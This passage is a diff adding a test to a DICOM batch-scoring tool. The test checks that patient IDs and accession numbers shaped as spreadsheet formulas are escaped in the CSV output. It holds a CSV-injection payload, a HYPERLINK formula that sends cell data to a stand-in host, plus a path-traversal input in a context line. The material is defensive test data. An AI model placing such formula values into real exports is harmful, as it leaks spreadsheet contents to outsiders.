@@ -552,6 +552,25 @@ def test_a_multi_frame_image_is_scored_on_its_first_frame_and_every_output_says_
     assert run_batch([box], BatchOptions(out=out, gradcam="none"), model=model).reused == 2
 
 
+def test_header_text_a_spreadsheet_would_run_is_written_as_text_in_the_csv(tmp_path, chest_pixels, model):
+    """A PatientID or Accession Number of =HYPERLINK(...) from a sender's header must not become a formula when
+    summary.csv is opened in Excel or LibreOffice (CSV injection): the cell gets an apostrophe before it. The JSON,
+    for programs, keeps the values as read."""
+    box, out = tmp_path / "in", tmp_path / "out"
+    box.mkdir()
+    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
+    save(make_dicom(chest_pixels, seed="formula", patient_id=hostile, AccessionNumber="@SUM(1+1)"), box / "a.dcm")
+    save(make_dicom(chest_pixels, seed="minus", patient_id="-42"), box / "b.dcm")
+    run_batch([box], BatchOptions(out=out, gradcam="none"), model=model)
+    with open(out / "summary.csv", newline="") as handle:
+        rows = {r["patient_id"]: r for r in csv.DictReader(handle) if r["kind"] == "study"}
+    assert set(rows) == {"'" + hostile, "'-42"}
+    assert rows["'" + hostile]["accession"] == "'@SUM(1+1)"
+    assert float(rows["'-42"]["score"]) >= 0            # numbers stay numbers
+    data = json.loads((out / "summary.json").read_text())
+    assert {r["patient_id"] for r in data["rows"] if r["kind"] == "study"} == {hostile, "-42"}
+
+
 def test_safe_name_rules():
     assert safe_name("../../etc") == "etc"
     assert safe_name("CON") == "x_CON"
